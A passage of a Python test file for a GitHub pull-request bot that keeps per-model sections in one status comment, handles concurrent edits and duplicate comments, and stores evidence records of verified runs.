    assert "PR #3859: merged; catching up" in outcome.lines
    [cookbook] = world.book_pulls()
    assert (
        st.read_state(
            GitHubClient(BOOK_TOKEN, base_url=world.server.base_url, pause=0).pulls.get(BOOK, 1),
            BOOK_BOT,
            "deepseek-ai/deepseek-v4_1",
        )[KEY].status
        == "verified"
    )
    assert cookbook["state"] == "open"


OTHER_SECTION = (
    "<!-- infx-cookbook-sync:section acme/other -->\n[by infx-cookbook-sync] other model"
)


def test_a_model_job_rewrites_only_its_own_section_of_the_status_comment(world):
    # One job per model edits the one status comment of the PR: another model's section,
    # written by that model's job, is kept as it is.
    world.model = "deepseek-ai/deepseek-v4_1"
    first_use(world)
    status = world.status()
    other = OTHER_SECTION
    status["body"] = status["body"].rstrip("\n") + st.SECTION_SEPARATOR + other + "\n"
    world.send("pull_request", _push_event(world, PR))
    body = world.status()["body"]
    sections = st.read_sections(body)
    assert sorted(sections) == ["acme/other", "deepseek-ai/deepseek-v4_1"]
    assert sections["acme/other"] == other
    assert "measured in run" in plain(sections["deepseek-ai/deepseek-v4_1"])
    # Without --model (every model of the event handled at once) the run owns the whole comment.
    world.model = None
    world.send("pull_request", _push_event(world, PR))
    assert sorted(st.read_sections(world.status()["body"])) == ["deepseek-ai/deepseek-v4_1"]


def test_a_status_edit_lost_to_another_models_job_is_made_again(world):
    # Two jobs of one event (one per model) edit the PR's one status comment at once: the
    # other job writes over this one's edit with the copy of this section it had read.
    world.model = "deepseek-ai/deepseek-v4_1"
    first_use(world)
    status = world.status()
    stale = status["body"]
    world.pull["labels"] = ["agentx-fast"]  # this job's section changes: the pin is refused

    def other_job(model: Any) -> None:
        status["body"] = stale.rstrip("\n") + st.SECTION_SEPARATOR + OTHER_SECTION + "\n"

    world.gh.after_next("PATCH", rf"/issues/comments/{status['id']}$", other_job)
    world.send("pull_request", _push_event(world, PR))
    sections = st.read_sections(world.status()["body"])
    assert sections["acme/other"] == OTHER_SECTION
    assert "agentx-fast" not in stale
    assert "carries the label agentx-fast" in plain(sections["deepseek-ai/deepseek-v4_1"])


def test_two_status_comments_posted_at_once_become_one(world):
    # Both jobs found no status comment and posted one: the newer merges into the older.
    world.model = "deepseek-ai/deepseek-v4_1"

    def other_job(model: Any) -> None:
        model.add_comment(
            INFX,
            PR,
            st.STATUS_MARKER + "\n" + OTHER_SECTION + "\n",
            user=INFX_BOT,
            association="NONE",
            created_at="2026-10-12T09:59:00Z",  # it posted first
        )

    world.gh.after_next("POST", rf"/repos/{INFX}/issues/{PR}/comments$", other_job)
    first_use(world)
    [status] = [c for c in world.gh.comments_on(INFX, PR) if is_status(c)]
    assert status["created_at"] == "2026-10-12T09:59:00Z"
    sections = st.read_sections(status["body"])
    assert sorted(sections) == ["acme/other", "deepseek-ai/deepseek-v4_1"]
    assert "measured in run" in plain(sections["deepseek-ai/deepseek-v4_1"])


def test_a_verified_pin_keeps_its_evidence_record_on_the_pr(world):
    """Issue 25: what the bot compared is kept in one folded comment per config, edited in
    place, readable after the artifacts expire."""
    import hashlib

    from syncer.github.records import Comment
    from syncer.publish import evidence

    first_use(world)

    def records() -> list[dict[str, Any]]:
        return [
            c
            for c in world.gh.comments_on(INFX, PR)
            if c["user"] == INFX_BOT and c["body"].startswith("<!-- infx-cookbook-sync:evidence")
        ]

    [kept] = records()
    comments = [Comment(c["id"], c["body"], c["user"], "NONE", "", "") for c in records()]
    rec = evidence.read_back(comments, INFX_BOT, KEY)
    assert rec is not None and rec["config"] == KEY and rec["run"] == str(RUN) and rec["pr"] == PR
    assert rec["sha"] == HEAD
    served = {hashlib.sha256(data).hexdigest() for data in run_artifacts().values()}
    assert rec["artifacts"] and set(rec["artifacts"].values()) <= served
    assert all(name.endswith(".zip") for name in rec["artifacts"])
    # Every point was verified against its log; the record names the log and what it launched.
    assert rec["points"] and {p["verdict"] for p in rec["points"]} == {"agree"}
    logged = {
        m.group(1)
        for f in (ROOT / "examples/runs" / str(RUN)).rglob("sweep_*.log")
        for m in re.finditer(r"Command: .*--mem-fraction-static (\S+)", f.read_text())
    }
    recorded = set()
    for point in rec["points"]:
        (log,) = point["logs"]
        launched = {(e["field"], e["key"]): e["value"] for e in log["launched"]}
        recorded.add(launched[("flag", "--mem-fraction-static")])
        assert ("env", "SGLANG_DEFAULT_THINKING") in launched
        assert any("(" in x for x in log["excluded"])  # each exclusion names its policy entry
    assert recorded == logged
    assert len(kept["body"]) <= 65536 and "<details>" in kept["body"]
    # The same pin again: the record is not posted a second time.
    comment = world.comment(f"/use {RUN}", at="2026-10-13T10:00:00Z")
    world.send("issue_comment", world.comment_event(comment))
    assert [c["id"] for c in records()] == [kept["id"]]
